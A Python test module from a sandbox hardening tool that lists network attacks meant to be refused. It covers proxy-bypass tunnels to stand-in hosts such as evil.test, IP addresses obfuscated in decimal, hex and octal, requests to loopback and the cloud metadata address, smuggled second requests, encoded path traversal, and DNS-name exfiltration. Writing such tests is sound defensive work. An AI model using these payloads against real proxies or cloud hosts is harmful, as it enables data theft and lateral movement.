"""Attacks on the network: past the proxy, and through it by every spelling and protocol that leads somewhere else."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from gloveport.doctor.attack import Attack, AttackKind
from gloveport.doctor.grounds import PLACEHOLDER
from gloveport.doctor.range import ADDRESSES
from gloveport.doctor.witness import ABSTRACT

__all__ = ["ASKED", "network_attacks"]

ASKED = "what-the-guest-knows.exfil.test"
"""A name that carries data to whoever answers for `exfil.test`."""
_EXFIL, _LATERAL = AttackKind.EXFIL, AttackKind.LATERAL
_POLICY = "egress policy"
_EVIL = ADDRESSES["evil"]
_NUMBER = sum(int(part) << 8 * (3 - place) for place, part in enumerate(_EVIL.split(".")))


def network_attacks() -> Iterator[Attack]:
    """All of them."""
    yield from _past()
    yield from _tunnels()
    yield from _requests()
    yield from _socks()
    yield from _private()
    yield from _lookups()
    yield _proxied("placeholder-in-a-path", _EXFIL, "placeholder alarm", "network:placeholder", variable=PLACEHOLDER)
    yield _proxied(
        "placeholder-in-a-header", _EXFIL, "placeholder alarm", "network:placeholder", variable=PLACEHOLDER, header=True
    )


def _proxied(name: str, kind: AttackKind, guard: str, run: str, **arguments: Any) -> Attack:
    # What is near would be refused by its address, too, if the policy did not refuse it by its name.
    behind = "address check" if guard == _POLICY and kind is _LATERAL else ""
    return Attack(
        name=f"{kind}/{name}", kind=kind, guard=guard, behind=behind, run=run, arguments=arguments, ground="proxied"
    )


def _lookups() -> Iterator[Attack]:
    tries: dict[str, tuple[str, dict[str, Any]]] = {
        "tunnel": ("through", {"target": f"tunnel.{ASKED}:80"}),
        "socks": ("socks", {"form": 3, "target": f"socks.{ASKED}", "port": 80}),
        "request": ("raw", {"data": f"GET http://request.{ASKED}/ HTTP/1.1\r\nHost: x\r\n\r\n"}),
    }
    for name, (run, arguments) in tries.items():
        yield Attack(
            name=f"{_EXFIL}/ask-for-a-name-by-{name}",
            kind=_EXFIL,
            guard="no lookup of refused names",
            run=f"network:{run}",
            arguments={**arguments, "witness": "nobody"},
            ground="proxied",
            asks=f"{name}.{ASKED}",
        )


def _past() -> Iterator[Attack]:
    """Without the proxy, in a sandbox that has no way out and in one that has."""
    guard = "network namespace"
    for ground in ("plain", "proxied"):
        for who, address in ADDRESSES.items():
            kind = _EXFIL if who.startswith(("good", "evil")) else _LATERAL
            yield Attack(
                name=f"{kind}/{ground}-direct-to-{who}",
                kind=kind,
                guard=guard,
                run="network:direct",
                arguments={"address": address, "port": 80},
                ground=ground,
            )
        yield Attack(
            name=f"{_EXFIL}/{ground}-datagram-to-a-name-server",
            kind=_EXFIL,
            guard=guard,
            run="network:ask_names",
            arguments={"server": "127.0.0.1", "name": ASKED},
            ground=ground,
        )
        yield Attack(
            name=f"{_LATERAL}/{ground}-socket-without-a-file",
            kind=_LATERAL,
            guard=guard,
            run="network:abstract",
            arguments={"name": ABSTRACT},
            ground=ground,
            behind="Landlock",
        )


def _tunnels() -> Iterator[Attack]:
    targets = {
        "another-host": "evil.test:80",
        "another-port": "one-port.test:8080",
        "a-name-below": "sub.good.test:80",
        "the-name-above": "wild.test:80",
        "a-longer-name": "evilgood.test:80",
        "a-name-that-begins-alike": "good.test.evil.test:80",
        "a-final-dot": "evil.test.:80",
        "capitals": "EVIL.test:80",
        "an-address": f"{_EVIL}:80",
        "an-ipv6-address": f"[{ADDRESSES['evil6']}]:80",
        "a-mapped-address": f"[::ffff:{_EVIL}]:80",
        "a-decimal-address": f"{_NUMBER}:80",
        "a-hexadecimal-address": f"{_NUMBER:#x}:80",
        "an-octal-address": ".".join(f"0{int(part):o}" for part in _EVIL.split(".")) + ":80",
        "a-short-address": "45.66:80",
        "loopback-by-number": "127.0.0.1:80",
        "loopback-in-short": "127.1:80",
        "loopback-as-zero": "0:80",
        "loopback-by-ipv6": "[::1]:80",
        "loopback-by-name": "localhost:80",
        "metadata-by-number": f"{ADDRESSES['metadata']}:80",
        "metadata-in-decimal": "2852039166:80",
        "the-lan": f"{ADDRESSES['lan']}:80",
        "the-lan-by-ipv6": f"[{ADDRESSES['unique6']}]:80",
    }
    witnesses = {
        "another-port": ADDRESSES["good"],
        "an-ipv6-address": ADDRESSES["evil6"],
        "a-short-address": "45.0.0.66",
        "loopback-by-ipv6": "::1",
        "metadata-by-number": ADDRESSES["metadata"],
        "metadata-in-decimal": ADDRESSES["metadata"],
        "the-lan": ADDRESSES["lan"],
        "the-lan-by-ipv6": ADDRESSES["unique6"],
    }
    for name, target in targets.items():
        witness = witnesses.get(name, "127.0.0.1" if name.startswith("loopback") else _EVIL)
        kind = _LATERAL if name.startswith(("loopback", "metadata", "the-lan")) else _EXFIL
        yield _proxied(f"tunnel-to-{name}", kind, _POLICY, "network:through", target=target, witness=witness)


def _requests() -> Iterator[Attack]:
    good = ADDRESSES["good"]
    close = "Connection: close\r\n\r\n"
    evil = f"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n{close}"
    requests = {
        "another-host": (evil, _EVIL),
        "another-host-under-a-good-name": (f"GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\n{close}", _EVIL),
        "another-host-in-the-oldest-http": ("GET http://evil.test/ HTTP/1.0\r\nHost: evil.test\r\n\r\n", _EVIL),
        "an-address": (f"GET http://{_EVIL}/ HTTP/1.1\r\nHost: {_EVIL}\r\n{close}", _EVIL),
        "the-metadata": (f"GET http://169.254.169.254/ HTTP/1.1\r\nHost: x\r\n{close}", ADDRESSES["metadata"]),
        "another-method": (f"DELETE http://reader.test/public/x HTTP/1.1\r\nHost: reader.test\r\n{close}", good),
        "another-path": (f"GET http://reader.test/private HTTP/1.1\r\nHost: reader.test\r\n{close}", good),
        "a-path-that-climbs": (f"GET http://reader.test/public/../x HTTP/1.1\r\nHost: reader.test\r\n{close}", good),
        "a-path-that-climbs-in-code": (
            f"GET http://reader.test/public/%2e%2e/x HTTP/1.1\r\nHost: reader.test\r\n{close}",
            good,
        ),
        "a-second-host-on-one-connection": (
            "GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n" + evil,
            _EVIL,
        ),
        "another-host-after-a-body": (
            "POST http://good.test/ HTTP/1.1\r\nHost: good.test\r\nContent-Length: 0\r\n\r\n" + evil,
            _EVIL,
        ),
    }
    for name, (data, witness) in requests.items():
        kind = _LATERAL if name == "the-metadata" else _EXFIL
        yield _proxied(f"request-to-{name}", kind, _POLICY, "network:raw", data=data, witness=witness)


def _socks() -> Iterator[Attack]:
    tries: dict[str, tuple[int, str, int, str]] = {
        "another-host": (3, "evil.test", 80, _EVIL),
        "another-port": (3, "one-port.test", 8080, ADDRESSES["good"]),
        "a-final-dot": (3, "evil.test.", 80, _EVIL),
        "an-address": (1, _EVIL, 80, _EVIL),
        "an-address-as-a-name": (3, _EVIL, 80, _EVIL),
        "an-address-in-decimal": (3, str(_NUMBER), 80, _EVIL),
        "an-ipv6-address": (4, ADDRESSES["evil6"], 80, ADDRESSES["evil6"]),
        "the-metadata": (1, ADDRESSES["metadata"], 80, ADDRESSES["metadata"]),
        "loopback": (1, "127.0.0.1", 80, "127.0.0.1"),
        "loopback-in-short": (3, "127.1", 80, "127.0.0.1"),
    }
    for name, (kind, target, port, witness) in tries.items():
        which = _LATERAL if name.startswith(("loopback", "the-metadata")) else _EXFIL
        arguments = {"form": kind, "target": target, "port": port, "witness": witness}
        yield _proxied(f"socks-to-{name}", which, _POLICY, "network:socks", **arguments)


def _private() -> Iterator[Attack]:
    guard = "address check"
    leads = {
        "to-lan": ADDRESSES["lan"],
        "to-lan10": ADDRESSES["lan10"],
        "to-shared": ADDRESSES["shared"],
        "to-metadata": ADDRESSES["metadata"],
        "to-unique6": ADDRESSES["unique6"],
        "to-loopback": "127.0.0.1",
        "to-loopback6": "::1",
        "to-mapped6": "127.0.0.1",
        "to-any": "127.0.0.1",
        "to-any6": "::1",
        "to-both": "",  # whichever of the two is dialled
    }
    for name, witness in leads.items():
        yield _proxied(f"name-{name}", _LATERAL, guard, "network:through", target=f"{name}.test:80", witness=witness)
        data = f"GET http://{name}.test/ HTTP/1.1\r\nHost: {name}.test\r\nConnection: close\r\n\r\n"
        yield _proxied(f"request-to-name-{name}", _LATERAL, guard, "network:raw", data=data, witness=witness)
    yield _proxied(
        "name-that-changes-its-mind",
        _LATERAL,
        "one resolution",
        "network:through",
        target="flips.test:80",
        witness=ADDRESSES["lan"],
    )
